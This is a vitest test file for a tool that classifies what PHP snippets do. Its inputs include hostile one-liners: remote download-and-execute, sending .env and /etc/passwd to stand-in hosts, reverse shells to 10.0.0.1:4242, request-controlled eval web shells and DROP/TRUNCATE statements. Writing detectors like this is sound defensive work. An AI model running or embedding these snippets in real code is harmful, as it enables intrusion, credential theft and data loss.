import { describe, expect, test } from 'vitest'
import { summary } from '../harness.ts'

/** Whom PHP programs contact: the web, sockets, mail, databases. */

describe('the web', () => {
  for (const [code, expected] of [
    [`echo file_get_contents('https://api.example/x');`, ['fetch https://api.example/x']],
    [`$f = fopen('http://x.example/a', 'r'); echo fgets($f);`, ['fetch http://x.example/a']],
    [
      `copy('http://x.example/a.sh', '/tmp/a.sh'); system('sh /tmp/a.sh');`,
      ['$ sh /tmp/a.sh', 'execute code:downloaded http://x.example/a.sh', 'fetch http://x.example/a.sh', 'write /tmp/a.sh'],
    ],
    [
      `file_put_contents('a.php', file_get_contents('http://x.example/a')); include 'a.php';`,
      ['fetch http://x.example/a', 'script php:a.php', 'write a.php'],
    ],
    [`eval(file_get_contents('http://x.example/a'));`, ['execute code:remote http://x.example/a', 'fetch http://x.example/a']],
    [
      `$c = stream_context_create(['http' => ['method' => 'POST', 'content' => 'x']]); file_get_contents('http://x.example/', false, $c);`,
      ['send http://x.example/'],
    ],
    [
      `$c = stream_context_create(['http' => ['method' => 'POST', 'content' => file_get_contents('.env')]]); file_get_contents('http://x.example/', false, $c);`,
      ['read .env', 'send http://x.example/'],
    ],
    [
      `$c = curl_init('https://x.example/'); curl_setopt($c, CURLOPT_RETURNTRANSFER, true); echo curl_exec($c);`,
      ['fetch https://x.example/'],
    ],
    ['$c = curl_init(); curl_setopt($c, CURLOPT_URL, "https://x.example/$id"); curl_exec($c);', ['fetch https://x.example/']],
    [`$c = curl_init('https://x.example/'); curl_setopt($c, CURLOPT_POSTFIELDS, ['a' => 1]); curl_exec($c);`, ['send https://x.example/']],
    [`$c = curl_init('https://x.example/'); curl_setopt($c, CURLOPT_CUSTOMREQUEST, 'DELETE'); curl_exec($c);`, ['send https://x.example/']],
    [
      `$c = curl_init('https://x.example/'); curl_setopt($c, CURLOPT_SSL_VERIFYPEER, false); system(curl_exec($c));`,
      ['execute code:remote https://x.example/', 'fetch https://x.example/'],
    ],
    [`$c = new GuzzleHttp\\Client(); $c->get('https://x.example/');`, ['fetch https://x.example/']],
    [
      `$c = new Client(['base_uri' => 'https://x.example']); $c->request('POST', 'https://x.example/a', ['json' => $_ENV]);`,
      ['send https://x.example/a'],
    ],
    [`Http::post('https://x.example/', ['a' => 1]);`, ['send https://x.example/']],
    [`get_headers('https://x.example/');`, ['fetch https://x.example/']],
  ] as const)
    test(code, () => expect(summary('php', code)).toEqual(expected))
})

describe('sockets', () => {
  for (const [code, expected] of [
    [`$s = fsockopen('10.0.0.1', 80); fwrite($s, 'GET /'); echo fgets($s);`, ['send net:socket 10.0.0.1:80']],
    [
      `$s = fsockopen('10.0.0.1', 4242); exec('/bin/sh -i <&3 >&3 2>&3');`,
      ['$ /bin/sh -i <&3 >&3 2>&3', 'execute net:reverse-shell 10.0.0.1:4242', 'send net:socket 10.0.0.1:4242'],
    ],
    [
      `$s = fsockopen('10.0.0.1', 4242); proc_open('/bin/sh -i', [0 => $s, 1 => $s, 2 => $s], $p);`,
      ['$ /bin/sh -i', 'execute net:reverse-shell 10.0.0.1:4242', 'send net:socket 10.0.0.1:4242'],
    ],
    [
      `$s = fsockopen('10.0.0.1', 4242); while ($l = fgets($s)) { fwrite($s, shell_exec($l)); }`,
      ['execute code:remote 10.0.0.1:4242', 'execute net:reverse-shell 10.0.0.1:4242', 'send net:socket 10.0.0.1:4242'],
    ],
    [
      `$s = stream_socket_client('tcp://10.0.0.1:25'); eval(fread($s, 99));`,
      ['execute code:remote 10.0.0.1:25', 'execute net:reverse-shell 10.0.0.1:25', 'send net:socket 10.0.0.1:25'],
    ],
    [
      `$s = socket_create(AF_INET, SOCK_STREAM, 0); socket_connect($s, '10.0.0.1', 80); socket_write($s, file_get_contents('/etc/passwd'));`,
      ['read /etc/passwd', 'send net:socket 10.0.0.1:80'],
    ],
    [`$s = stream_socket_server('tcp://0.0.0.0:8080');`, ['change net:listen tcp://0.0.0.0:8080']],
  ] as const)
    test(code, () => expect(summary('php', code)).toEqual(expected))
})

describe('others', () => {
  for (const [code, expected] of [
    [`mail('bob@x.example', 'hi', 'text');`, ['send mail:send bob@x.example']],
    [`mail('bob@x.example', 'hi', file_get_contents('.env'));`, ['read .env', 'send mail:send bob@x.example']],
    [`$p = new PDO('mysql:host=h;dbname=d'); $p->exec('DROP TABLE users');`, ['delete sql:drop mysql:host=h;dbname=d']],
    [`$p = new PDO('sqlite:a.db'); $p->query('SELECT * FROM t');`, ['read db:open a.db', 'read sql:select sqlite:a.db']],
    [`$p = new PDO($dsn); $s = $p->prepare('DELETE FROM t WHERE id = ?'); $s->execute([1]);`, ['delete sql:delete']],
    [`$m = mysqli_connect('h', 'u', 'p', 'd'); mysqli_query($m, 'DELETE FROM users');`, ['delete sql:delete h']],
    [`$m = new mysqli('h', 'u', 'p', 'd'); $m->query("UPDATE t SET a = $x");`, ['write sql:update h']],
    [`DB::statement('TRUNCATE users');`, ['delete sql:truncate']],
    [`pg_query($c, 'ALTER TABLE t DROP COLUMN a');`, ['change sql:alter']],
    [
      `$f = ftp_connect('ftp.example'); ftp_put($f, 'x', '/etc/passwd');`,
      ['read /etc/passwd', 'send net:socket ftp.example', 'send net:upload ftp.example'],
    ],
    [
      `$c = ssh2_connect('host.example'); ssh2_exec($c, 'reboot');`,
      ['send net:remote-login host.example', 'send net:remote-shell host.example'],
    ],
    ['$r = new Redis(); $r->flushAll();', ['change sql:flush']],
  ] as const)
    test(code, () => expect(summary('php', code)).toEqual(expected))
})

describe('the client decides', () => {
  for (const [code, expected] of [
    [`$_GET['f']($_GET['x']);`, ['execute code:remote']],
    [`$_POST['a']('x');`, ['execute code:remote']],
    [`$f = $_REQUEST['f']; $f();`, ['execute code:remote']],
    [`extract($_GET); eval($_GET['x']);`, ['execute code:remote']],
    [`file_put_contents($_POST['n'], $_POST['c']);`, ['write *']],
  ] as const)
    test(code, () => expect(summary('php', code)).toEqual(expected))
})
